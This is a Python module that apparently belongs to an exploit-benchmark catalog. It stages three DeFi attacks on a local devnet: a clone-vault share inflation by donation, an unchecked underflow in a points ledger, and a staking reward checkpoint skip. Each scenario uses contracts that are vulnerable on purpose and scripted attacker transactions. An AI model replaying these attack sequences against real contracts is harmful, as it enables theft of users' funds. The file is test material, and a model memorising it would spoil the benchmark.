"""Share and balance accounting: a clone vault inflated over three txs, an unchecked underflow.

- `gen-clone-vault-donation` (multi-tx): a VaultFactory makes an EIP-1167 clone of CloneVault
  (shares at the raw WETH balance, rounded down). Mallory front-runs bob in one block: a 1-wei
  deposit (the only share) and a 10 WETH donation; bob's 10 WETH deposit then mints 0 shares. In
  the next block she redeems her one share for the vault's whole 20 WETH + 1 wei (the exploit tx).
- `gen-unchecked-underflow`: PointsLedger.transfer subtracts in an `unchecked` block with no
  balance check; a 1-point transfer from an empty account wraps it to 2**256 - 1, and the
  attacker redeems every ether the ledger holds.
- `gen-reward-checkpoint-skip`: StakingRewards checkpoints the caller on every path but never the
  recipient of `transferStake`, whose rewards accrue from timestamp 0; a stake moved to a fresh
  account claims the whole reward reserve.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER, create_address
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.generalization.kit import (
    ATTACKER,
    MAX,
    bind,
    deploy_own,
    expect,
)
from timemachine.catalog.scenarios.world import World

DONATION = 10 * ETHER
VICTIM_DEPOSIT = 10 * ETHER
POINTS = {"alice": 5, "bob": 7, "frank": 3}
REDEEMED_POINTS = 2 * ETHER * 1_000
"""bob redeems 2 ETH worth of points."""
REWARD_RESERVE = 20 * ETHER
STAKERS = {"alice": 10, "carol": 4}


async def stage_clone_donation(world: World) -> ScenarioRecord:
    chain, weth, a = world.chain, world.weth, actor_address
    factory = await deploy_own(chain, "deployer", "VaultFactory", gas=3_000_000)
    await chain.mine()
    await factory.send("deployer", "create", weth.address, gas=400_000)
    await chain.mine()
    # the factory's nonce 1 created the implementation; nonce 2 the clone
    vault = bind(chain, create_address(factory.address, 2), "CloneVault", "CloneVault (clone)")
    expect("clone asset", await vault.call("asset"), weth.address.lower())
    await weth.send(ATTACKER, "deposit", value=DONATION + 1)
    await weth.send("bob", "deposit", value=VICTIM_DEPOSIT)
    await weth.send(ATTACKER, "approve", vault.address, MAX)
    await weth.send("bob", "approve", vault.address, MAX)
    await chain.mine()

    await vault.send(ATTACKER, "deposit", 1)
    await weth.send(ATTACKER, "transfer", vault.address, DONATION)
    await vault.send("bob", "deposit", VICTIM_DEPOSIT)
    await chain.mine()
    expect("bob's shares", await vault.call("balanceOf", a("bob")), 0)

    held = DONATION + VICTIM_DEPOSIT + 1
    outcome = await measure_exploit(
        chain,
        lambda: vault.send(ATTACKER, "redeem", 1),
        attackers=[a(ATTACKER)],
        victims=[vault.address],
        tokens=[weth.address],
        expected_losses={weth.address.lower(): held},
        what="clone vault donation",
    )
    return CLONE_DONATION.exploited(
        outcome, attacker=a(ATTACKER), contracts=[], victims=[vault.address]
    )


async def stage_unchecked_underflow(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    ledger = await deploy_own(chain, "deployer", "PointsLedger")
    attacker = await deploy_own(chain, ATTACKER, "PointsUnderflow")
    await chain.mine()
    await ledger.fund("buy", POINTS)
    await ledger.send("bob", "redeem", REDEEMED_POINTS)
    await chain.mine()
    lost = (sum(POINTS.values()) - 2) * ETHER
    record = await UNCHECKED_UNDERFLOW.drained(
        chain,
        lambda: attacker.send(ATTACKER, "attack", ledger.address, gas=300_000),
        attacker=a(ATTACKER),
        contracts=[attacker.address],
        victim=ledger.address,
        held=lost,
        left=0,
        what="unchecked underflow",
    )
    expect(
        "wrapped balance",
        await ledger.call("balanceOf", attacker.address),
        MAX - lost * 1_000,
    )
    return record


async def stage_checkpoint_skip(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    rewards = await deploy_own(chain, "deployer", "StakingRewards")
    mover = await deploy_own(chain, ATTACKER, "StakeMover")
    casher = await deploy_own(chain, ATTACKER, "StakeCasher")
    await chain.mine()
    await chain.send("deployer", rewards.address, value=REWARD_RESERVE, what="reward top-up")
    await rewards.fund("stake", STAKERS)
    await rewards.send("alice", "claim")
    await chain.mine()
    await rewards.send("carol", "unstake", 1 * ETHER)
    await chain.mine()
    staked = (sum(STAKERS.values()) - 1) * ETHER
    reserve = await rewards.call("rewardReserve")
    record = await CHECKPOINT_SKIP.drained(
        chain,
        lambda: mover.send(
            ATTACKER, "attack", rewards.address, casher.address, value=ETHER, gas=400_000
        ),
        attacker=a(ATTACKER),
        contracts=[mover.address, casher.address],
        victim=rewards.address,
        held=staked + reserve,
        left=staked,
        what="reward checkpoint skip",
    )
    expect("reserve left", await rewards.call("rewardReserve"), 0)
    return record


CLONE_DONATION = declared("gen-clone-vault-donation", stage_clone_donation)
UNCHECKED_UNDERFLOW = declared("gen-unchecked-underflow", stage_unchecked_underflow)
CHECKPOINT_SKIP = declared("gen-reward-checkpoint-skip", stage_checkpoint_skip)
